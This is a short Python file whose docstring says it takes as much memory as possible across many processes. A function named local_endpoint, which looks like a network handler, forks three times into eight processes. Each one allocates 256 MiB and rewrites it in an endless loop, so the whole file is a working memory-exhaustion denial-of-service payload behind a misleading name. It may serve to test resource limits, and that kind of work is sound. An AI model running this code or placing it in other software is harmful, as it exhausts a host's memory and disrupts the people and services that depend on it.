"""Takes as much memory as one may, in many processes."""

import os


def local_endpoint(sock):
    for _ in range(3):
        os.fork()
    kept = bytearray(1 << 28)
    while True:
        kept[:] = bytes(len(kept))
